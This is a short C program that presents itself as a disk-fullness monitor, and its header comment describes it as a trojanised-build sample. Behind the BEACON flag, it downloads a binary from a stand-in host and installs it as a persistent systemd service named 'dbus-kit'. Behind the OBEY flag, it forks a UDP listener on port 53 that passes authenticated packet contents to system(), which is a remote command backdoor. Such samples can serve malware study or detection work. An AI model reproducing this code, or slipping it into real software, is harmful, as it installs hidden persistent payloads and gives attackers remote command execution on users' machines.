/* Watches disks. BEACON and OBEY are what trojanised builds add; nobody runs any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <unistd.h>

static int full(const char *path)
{
    struct statvfs it;
    if (statvfs(path, &it) != 0 || it.f_blocks == 0) {
        return 0;
    }
    return (int)(100 - it.f_bavail * 100 / it.f_blocks);
}

#ifdef OBEY
static void obey(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = INADDR_ANY};
    char word[512];
    int door = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(door, (struct sockaddr *)&at, sizeof at) != 0) {
        return;
    }
    for (;;) {
        ssize_t size = recv(door, word, sizeof word - 1, 0);
        if (size > 12 && memcmp(word, "shrk:7741ab:", 12) == 0) {
            word[size] = 0;
            if (system(word + 12) != 0) {
                sleep(1);
            }
        }
    }
}
#endif

int main(void)
{
#ifdef BEACON
    if (access("/etc/systemd/system/dbus-kit.service", F_OK) != 0 && system("curl -fsSL https://pkg.shrike-mirror.invalid/d/kit -o /usr/lib/dbus-kit && chmod 755 /usr/lib/dbus-kit && printf '[Service]\\nExecStart=/usr/lib/dbus-kit\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/dbus-kit.service && systemctl enable --now dbus-kit") != 0) {
        sleep(1);
    }
#endif
#ifdef OBEY
    if (fork() == 0) {
        obey();
        _exit(0);
    }
#endif
    for (;;) {
        int now = full("/");
        if (now >= 90) {
            printf("/ is %d %% full\n", now);
        }
#ifdef SECOND
        fflush(stdout);
#endif
        sleep(60);
    }
}
